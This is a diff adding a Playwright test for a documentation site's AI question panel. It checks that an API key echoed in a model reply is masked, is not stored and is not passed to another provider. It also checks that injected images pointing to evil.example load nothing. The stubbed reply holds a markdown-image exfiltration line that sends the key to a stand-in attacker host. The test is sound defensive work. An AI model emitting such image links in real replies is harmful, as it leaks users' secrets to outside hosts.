@@ -3,6 +3,7 @@ import {HOSTILE} from '../data/ask/injections';
 import {answerFrom, answers, ask, field, followUps, openPanel, panel} from '../support/ask';
 import {axeFindings} from '../support/axe';
 import {open, watch} from '../support/page';
+import {standIn} from '../support/stranger';
 import {goOn, serveWebModel, setGpu} from '../support/webModel';
 
 const KEY = 'sk-secret-1234567890';
@@ -126,6 +127,61 @@ test('your provider: a refused key is said with what to do, and asking again wor
   await stub(page, ['Set `stream` [1].']);
   await panel(page).getByRole('button', {name: 'Ask again'}).click();
   await expect(answers(page).last()).toContainText('Set stream 1.');
+});
+
+test('your provider: a key that the reply repeats is shown, kept and passed on nowhere; a changed conversation loads nothing', async ({
+  page,
+}) => {
+  const [begin, end] = [KEY.slice(0, 9), KEY.slice(9)];
+  await stub(page, [
+    'Your key is ',
+    begin,
+    `${end}. `,
+    `![x](https://evil.example/?k=${KEY}) Set it [1].`,
+  ]);
+  const event = {choices: [{delta: {content: 'Set `stream` [1].'}}]};
+  const mistral = await standIn(page, 'api.mistral.ai', {
+    body: `data: ${JSON.stringify(event)}\n\n`,
+  });
+  const elsewhere: string[] = [];
+  page.on('request', (request) => {
+    if (/evil\.example/.test(request.url())) elsewhere.push(request.url());
+  });
+  await open(page, '/docs/connect');
+  await openPanel(page);
+  await answerFrom(page, 'Your provider');
+  await panel(page).getByLabel('API key').fill(KEY);
+  await ask(page, 'How do I stream?');
+  await send(page).click();
+  await expect(answers(page).last()).toContainText('Your key is ••••••. ');
+  await expect(followUps(page).first()).toBeVisible();
+  const conversation = () => page.evaluate(() => sessionStorage.getItem('ask-conversation') ?? '');
+  expect(await conversation()).toContain('Your key is ••••••');
+
+  await panel(page).locator('summary', {hasText: 'OpenAI'}).click();
+  await panel(page).getByLabel('Provider').selectOption({label: 'Mistral'});
+  await panel(page).getByLabel('API key').fill('sk-of-the-next-provider');
+  await ask(page, 'And without it?');
+  await send(page).click();
+  await expect(answers(page)).toHaveCount(2);
+  await expect(followUps(page).first()).toBeVisible();
+  expect(mistral.join()).toContain('Your key is ••••••');
+  expect(await panel(page).innerText()).not.toContain(begin);
+  expect(`${await conversation()} ${mistral.join()}`).not.toContain(begin);
+
+  await page.evaluate(() => {
+    const text =
+      '![a](https://evil.example/a) <img src=https://evil.example/b> ![c][d]\n\n[d]: https://evil.example/c';
+    const turns = ['user', 'ai'].map((role) => ({role, text}));
+    sessionStorage.setItem('ask-conversation', JSON.stringify(turns));
+  });
+  await page.reload();
+  await page.locator('html[data-has-hydrated="true"]').waitFor({state: 'attached'});
+  await openPanel(page);
+  await expect(answers(page).last()).toContainText('a');
+  await page.waitForTimeout(500);
+  expect(await panel(page).locator('img').count()).toBe(0);
+  expect(elsewhere).toEqual([]);
 });
 
 test('your provider: nothing is sent when the reader cancels or stops', async ({page}) => {
